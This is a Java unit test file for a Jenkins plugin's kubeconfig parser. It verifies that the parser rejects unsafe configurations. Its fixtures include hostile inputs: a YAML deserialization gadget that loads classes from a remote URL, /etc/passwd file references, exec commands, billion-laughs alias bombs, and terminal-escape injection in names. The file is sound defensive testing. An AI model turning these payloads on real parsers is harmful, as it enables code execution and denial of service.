package io.jenkins.plugins.prepullgate.cluster;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import io.jenkins.plugins.prepullgate.faults.Mutations;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Base64;
import java.util.List;
import org.junit.Rule;
import org.junit.Test;
import org.junit.rules.TemporaryFolder;

public class KubeconfigsTest {
    private static final String SECRET = "s3cr3t-token-value";

    @Rule
    public final TemporaryFolder folder = new TemporaryFolder();

    @Test
    public void theCurrentContextIsTakenWhenNoneIsNamed() throws Exception {
        ClusterTarget target = Kubeconfigs.parse(config("    token: " + SECRET), null);

        assertThat(target.name()).isEqualTo("prod");
        assertThat(target.serverUrl()).isEqualTo("https://prod.test:6443");
        assertThat(target.namespace()).isEqualTo("jhub");
        assertThat(target.caPem()).isEqualTo("CA PEM");
        assertThat(target.credentials()).isEqualTo(new Credentials.Token(SECRET));
        assertThat(target.insecure()).isFalse();
    }

    @Test
    public void aNamedContextWins() throws Exception {
        ClusterTarget target = Kubeconfigs.parse(config("    token: " + SECRET), "staging");

        assertThat(target.serverUrl()).isEqualTo("https://staging.test");
        assertThat(target.namespace()).isNull();
        assertThat(target.insecure()).isTrue();
        assertThat(target.credentials()).isEqualTo(new Credentials.Password("me", "1234"));
    }

    @Test
    public void aContextThatIsNotThereIsNamedTogetherWithThoseThatAre() {
        assertThatThrownBy(() -> Kubeconfigs.parse(config("    token: x"), "dev"))
                .hasMessage("the kubeconfig has no context 'dev'; it has prod, staging");
    }

    @Test
    public void severalKubeconfigsAreMergedAsKubectlDoes() throws Exception {
        String first = "current-context:\nclusters:\ncontexts:\n- name: prod\n  context: {cluster: p, user: other}\n"
                + "users:\n- name: other\n  user: {token: first}\n";

        ClusterTarget target = Kubeconfigs.parse(List.of(first, config("    token: " + SECRET)), null, "the kubeconfigs");

        assertThat(target.serverUrl()).isEqualTo("https://prod.test:6443");
        assertThat(target.credentials()).as("of two contexts with one name the first counts").isEqualTo(new Credentials.Token("first"));
        assertThatThrownBy(() -> Kubeconfigs.parse(List.of(first), "prod", "KUBECONFIG"))
                .hasMessageStartingWith("KUBECONFIG has no cluster 'p', which context 'prod' names; make a whole one");
        assertThatThrownBy(() -> Kubeconfigs.parse(List.of(config("    exec: {command: touch}"), first), "prod", "KUBECONFIG"))
                .hasMessageContaining("KUBECONFIG, user 'me', uses exec");
    }

    @Test
    public void aProgramToRunIsRefusedWithAWordOfWhatToDo() {
        String exec = "    exec: {apiVersion: client.authentication.k8s.io/v1, command: gke-gcloud-auth-plugin}";

        assertThatThrownBy(() -> Kubeconfigs.parse(config(exec), null))
                .isInstanceOfSatisfying(
                        ConnectionException.class, e -> assertThat(e.kind()).isEqualTo(ConnectionException.Kind.CONFIGURATION))
                .hasMessageContaining("user 'me', uses exec, which runs a program and is refused")
                .hasMessageContaining("kubectl create token");
        assertThatThrownBy(() -> Kubeconfigs.parse(config("    auth-provider: {name: gcp}"), null)).hasMessageContaining("uses auth-provider");
    }

    @Test
    public void aProgramIsRefusedEvenBesideAToken() {
        assertThatThrownBy(() -> Kubeconfigs.parse(config("    token: x\n    exec: {command: touch}"), null)).hasMessageContaining("exec");
    }

    @Test
    public void filesAreNotReadForSomebodyElse() {
        for (String field : new String[] {"tokenFile", "client-certificate", "client-key"}) {
            assertThatThrownBy(() -> Kubeconfigs.parse(config("    " + field + ": /etc/passwd"), null))
                    .as(field)
                    .hasMessageContaining("refers to a file (" + field + "), which is refused")
                    .hasMessageContaining("kubectl config view --flatten");
        }
        assertThatThrownBy(() -> Kubeconfigs.parse(config("    token: x").replaceFirst("-data: .*", ": /etc/passwd"), null))
                .hasMessageContaining("refers to a file (certificate-authority)");
    }

    @Test
    public void theCallersOwnFilesAreReadRelativeToTheKubeconfig() throws Exception {
        write("ca.pem", "CA FROM FILE");
        write("me.crt", "CERTIFICATE");
        write("me.key", "KEY");
        String users = "    client-certificate: me.crt\n    client-key: me.key";
        Path file = write("config", config(users).replaceFirst("-data: .*", ": ca.pem"));

        ClusterTarget target = Kubeconfigs.read(file, "");

        assertThat(target.caPem()).isEqualTo("CA FROM FILE");
        assertThat(target.credentials()).isEqualTo(new Credentials.Certificate("CERTIFICATE", "KEY"));
    }

    @Test
    public void aProgramInTheCallersOwnKubeconfigIsNotRunEither() throws Exception {
        Path file = write("config", config("    exec: {command: touch}"));

        assertThatThrownBy(() -> Kubeconfigs.read(file, null)).hasMessageContaining("exec");
    }

    @Test
    public void aTokenFileOfTheCallersIsKeptAsAFileSinceItIsRenewed() throws Exception {
        Path file = write("config", config("    tokenFile: token"));
        assertThatThrownBy(() -> Kubeconfigs.read(file, null))
                .hasMessage("kubeconfig " + file + ", user 'me', names a tokenFile that cannot be read: " + file.resolveSibling("token")
                        + ": there is no such file");
        write("token", SECRET);

        assertThat(Kubeconfigs.read(file, null).credentials())
                .isEqualTo(new Credentials.TokenFile(folder.getRoot().toPath().resolve("token")));
    }

    @Test
    public void aMissingKubeconfigIsOneLine() {
        Path missing = folder.getRoot().toPath().resolve("nowhere");

        assertThatThrownBy(() -> Kubeconfigs.read(missing, null)).hasMessage("kubeconfig " + missing + " does not exist");
    }

    @Test
    public void brokenYamlIsReportedByItsLineAndNotByItsText() {
        String broken = config("    token: \"" + SECRET + "\n  : }{");

        ConnectionException e = catchThrowableOfType(ConnectionException.class, () -> Kubeconfigs.parse(broken, null));

        assertThat(e).hasMessageMatching("the kubeconfig is no valid YAML in line \\d+");
        assertThat(e.getCause()).isNull();
    }

    @Test
    public void whateverIsNoKubeconfigIsRefused() {
        for (String text : new String[] {"", "   ", "just text", "[1, 2]", "apiVersion: v1", "a: &a [*a]", "contexts: 7\ncurrent-context: x"}) {
            assertThatThrownBy(() -> Kubeconfigs.parse(text, null)).as(text).isInstanceOf(ConnectionException.class);
        }
        assertThatThrownBy(() -> Kubeconfigs.parse(null, null)).hasMessageStartingWith("the kubeconfig is empty; make a whole one");
    }

    @Test
    public void whatIsMissingIsNamedWithWhatIsThereAndWhatToDo() {
        String make = "; make a whole one, for example with: kubectl config view --flatten --minify";
        refused("", "the kubeconfig is empty" + make);
        for (String text : List.of("just text", "apiVersion: v1", "contexts: []", "contexts: 7\ncurrent-context: x", "current-context: x")) {
            refused(text, "the kubeconfig has no contexts" + make);
        }
        String contexts = "contexts:\n- {name: a, context: {cluster: x, user: u}}\n- {name: b, context: {user: u}}\n- {name: c}\n";
        String rest = "clusters: [{name: y, cluster: {insecure-skip-tls-verify: true}}]\nusers: [{name: v, user: {token: x}}]\n";
        refused(contexts, "the kubeconfig has no current-context; name one of its contexts: a, b, c");
        refused(contexts + rest + "current-context: a", "the kubeconfig has no cluster 'x', which context 'a' names" + make);
        refused(contexts + rest + "current-context: b", "the kubeconfig, context 'b', names no cluster" + make);
        refused(contexts + rest + "current-context: c", "the kubeconfig, context 'c', names no cluster" + make);
        String named = contexts.replace("cluster: x", "cluster: y") + rest + "current-context: a\n";
        refused(named, "the kubeconfig has no user 'u', which context 'a' names" + make);
        refused(named.replace("user: u", "user: v"), "the kubeconfig, cluster 'y', names no server; it must look like server: https://host:port");
    }

    @Test
    public void ofManyContextsAFewAreNamed() {
        StringBuilder contexts = new StringBuilder("contexts:\n");
        for (int i = 1; i <= 23; i++) {
            contexts.append("- {name: c").append(i).append("}\n");
        }
        refused(contexts.toString(),
                "the kubeconfig has no current-context; name one of its contexts: c1, c2, c3, c4, c5, c6, c7, c8, c9, c10 and 13 more");
    }

    private static void refused(String kubeconfig, String message) {
        assertThatThrownBy(() -> Kubeconfigs.parse(kubeconfig, null)).as(kubeconfig).hasMessage(message);
    }

    @Test
    public void tagsDoNotMakeObjects() {
        String evil = config("    token: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x.test/\"]]]]");

        assertThatThrownBy(() -> Kubeconfigs.parse(evil, null)).isInstanceOf(ConnectionException.class);
    }

    @Test
    public void aliasesThatExplodeAreRefused() {
        StringBuilder laughs = new StringBuilder("a0: &a0 [x, x, x, x, x, x, x, x, x]\n");
        for (int i = 1; i < 30; i++) {
            laughs.append("a" + i + ": &a" + i + " [" + "*a" + (i - 1) + (", *a" + (i - 1)).repeat(8) + "]\n");
        }

        assertThatThrownBy(() -> Kubeconfigs.parse(laughs.toString(), null)).isInstanceOf(ConnectionException.class);
    }

    @Test
    public void aKubeconfigWithoutEndIsRefused() {
        assertThatThrownBy(() -> Kubeconfigs.parse("a: " + "x".repeat(2_000_000), null))
                .hasMessage("the kubeconfig is larger than 1048576 characters");
    }

    @Test
    public void whatIsNestedBeyondReasonOrContainsItselfIsRefused() {
        for (String text : List.of("[".repeat(100_000), "- ".repeat(300_000), "{a: ".repeat(100_000))) {
            assertThatThrownBy(() -> Kubeconfigs.parse(text, null)).hasMessage("the kubeconfig is nested too deeply in line 1: more than 100 levels");
        }
        assertThatThrownBy(() -> Kubeconfigs.parse("contexts:\n- name: &x [[*x]]\ncurrent-context: a\n", null)).hasMessageContaining("without end");
        assertThatThrownBy(() -> Kubeconfigs.parse("a: 1\n---\na: 2\n", null)).hasMessage("the kubeconfig has 2 YAML documents; a kubeconfig is one");
    }

    @Test
    public void aKeyThatIsNoTextIsRefusedBeforeItIsHashed() {
        StringBuilder laughs = new StringBuilder("a0: &a0 [" + "x, ".repeat(1_000) + "]\n");
        for (int i = 1; i < 24; i++) {
            laughs.append("a" + i + ": &a" + i + " [*a" + (i - 1) + ", *a" + (i - 1) + "]\n");
        }

        assertThatThrownBy(() -> Kubeconfigs.parse(laughs + "? *a23\n: 1\n", null)).hasMessage("the kubeconfig has a key in line 25 that is no text");
    }

    @Test
    public void aNameSteersNoTerminalAndFillsNoScreen() throws Exception {
        String hostile = "\"prod\\e[2J\\u202e\\nforged" + "x".repeat(5_000) + "\"";
        String named = config("    token: x").replace("- name: prod", "- name: " + hostile);

        assertThatThrownBy(() -> Kubeconfigs.parse(named, null))
                .hasMessageStartingWith("the kubeconfig has no context 'prod'; it has prod [2J forgedxx")
                .satisfies(e -> Mutations.assertOneLine(e.getMessage()))
                .satisfies(e -> assertThat(e.getMessage()).hasSizeLessThan(700));
        assertThatThrownBy(() -> Kubeconfigs.parse("current-context: " + hostile, null)).satisfies(e -> Mutations.assertOneLine(e.getMessage()));
        ClusterTarget target = Kubeconfigs.parse(named.replace("current-context: prod", "current-context: " + hostile), null);
        Mutations.assertOneLine(target.displayName());
        assertThat(target.displayName()).hasSizeLessThan(700);
    }

    @Test
    public void whatWouldBeOverlookedIsRefused() {
        assertThatThrownBy(() -> Kubeconfigs.parse(config("    token: x\n    as: admin"), null)).hasMessageContaining("impersonates");
        String renamed = config("    token: x").replace("    server: https://prod", "    tls-server-name: a\n    server: https://prod");
        assertThatThrownBy(() -> Kubeconfigs.parse(renamed, null)).hasMessageContaining("tls-server-name");
        assertThatThrownBy(() -> Kubeconfigs.parse(config("    token: x").replace("https://prod.test:6443", "https://u:p@prod.test"), null))
                .hasMessageContaining("must not contain credentials")
                .hasMessageNotContaining("u:p");
        assertThatThrownBy(() -> Kubeconfigs.parse(config("    token: x").replace("https://prod.test:6443", "prod.test:6443"), null))
                .hasMessageContaining("must look like https://host:port");
        assertThatThrownBy(() -> Kubeconfigs.parse(config("    client-certificate-data: " + base64("C")), null))
                .hasMessage("the kubeconfig, user 'me', cannot be used: the client key is empty");
        assertThatThrownBy(() -> Kubeconfigs.parse(config("    token: x").replaceFirst("-data: .*", "-data: '%%%%%'"), null))
                .isInstanceOf(ConnectionException.class);
    }

    @Test
    public void aProxyIsUsed() throws Exception {
        String yaml = config("    token: x").replace("    server: https://prod", "    proxy-url: http://proxy.test:3128\n    server: https://prod");

        assertThat(Kubeconfigs.parse(yaml, null).proxyUrl()).isEqualTo("http://proxy.test:3128");
    }

    @Test
    public void noSecretIsShown() throws Exception {
        ClusterTarget target = Kubeconfigs.parse(config("    token: " + SECRET), null);

        assertThat(target.toString()).contains("prod").doesNotContain(SECRET);
        assertThat(new Credentials.Password("me", SECRET).toString()).doesNotContain(SECRET);
        assertThat(new Credentials.Certificate("c", SECRET).toString()).doesNotContain(SECRET);
    }

    private static String config(String user) {
        return "apiVersion: v1\nkind: Config\ncurrent-context: prod\n"
                + "clusters:\n- name: p\n  cluster:\n    certificate-authority-data: " + base64("CA PEM")
                + "\n    server: https://prod.test:6443\n"
                + "- name: s\n  cluster:\n    server: https://staging.test/\n    insecure-skip-tls-verify: true\n"
                + "contexts:\n- name: prod\n  context: {cluster: p, user: me, namespace: jhub}\n"
                + "- name: staging\n  context: {cluster: s, user: basic}\n"
                + "users:\n- name: me\n  user:\n" + user + "\n- name: basic\n  user: {username: me, password: 1234}\n";
    }

    private static String base64(String text) {
        return Base64.getEncoder().encodeToString(text.getBytes(StandardCharsets.UTF_8));
    }

    private Path write(String name, String text) throws IOException {
        return Files.writeString(folder.getRoot().toPath().resolve(name), text);
    }
}
